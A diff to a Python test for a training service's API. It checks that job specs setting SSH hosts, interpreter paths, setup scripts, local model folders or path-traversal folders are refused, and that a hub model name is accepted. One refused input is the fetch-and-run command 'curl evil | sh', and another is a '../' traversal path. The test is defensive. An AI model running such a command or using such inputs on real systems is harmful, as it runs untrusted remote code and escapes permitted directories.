@@ -96,7 +96,10 @@ def test_ssh_hosts_users_keys_and_scripts_are_not_a_service_users(api: Api, tmp_
     refused(post(api, {**SPEC, "compute": {"python": "/usr/bin/python3"}}), "compute.python")
     refused(post(api, {**SPEC, "compute": {"setup": "curl evil | sh"}}), "compute.setup")
     refused(post(api, {**SPEC, "base_model": str(tmp_path)}), "base_model")
-    refused(post(api, {**SPEC, "dataset": {"captions": {"model": "/srv/models/x"}}}), "dataset.captions.model")
+    for folder in ["/srv/models/x", "../x/y", "tests/server"]:
+        refused(post(api, {**SPEC, "dataset": {"captions": {"model": folder}}}), "dataset.captions.model")
+    hub = {**SPEC, "dataset": {"path": ".", "captions": {"model": "microsoft/Florence-2-base"}}}
+    assert read_spec(hub, ServiceConfig()).dataset.captions.model == "microsoft/Florence-2-base"
     nothing_created()
 
 
